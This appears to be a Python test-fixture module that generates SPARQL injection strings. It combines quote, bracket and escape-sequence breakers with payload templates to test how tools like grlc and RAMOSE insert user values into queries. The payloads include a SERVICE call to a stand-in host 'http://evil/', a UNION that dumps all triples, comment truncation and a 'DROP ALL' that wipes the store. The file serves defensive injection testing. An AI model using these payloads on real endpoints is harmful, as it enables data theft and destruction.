"""Values that try to end the string or IRI that holds them and go on as query text.

Such values broke grlc, which puts them between quotation marks or angle brackets as they are, and RAMOSE,
which pastes them into the query.
"""

from __future__ import annotations

from itertools import product

BREAKERS = [
    *"\"'\\<>{}#|;.\n\r\t\x00\x7f\u2028\u202e",
    *('"""', "'''", "\\\\", '\\"', "\\u0022", "\\\\u0022", "\\U00000022", "\\u005C"),
    *("^^", "@en", "*/", "--", "?_x"),
]
PAYLOADS = [
    "{} }} SERVICE <http://evil/> {{ ?a ?b ?c",
    "{} . ?s ?p ?o",
    "{} # the rest is gone",
    "{} }} UNION {{ ?s ?p ?o",
    "{} ; DROP ALL",
    "x{}",
    "{}",
    "{0}{0}{0}",
]
ATTACKS = [payload.format(breaker) for breaker, payload in product(BREAKERS, PAYLOADS)]
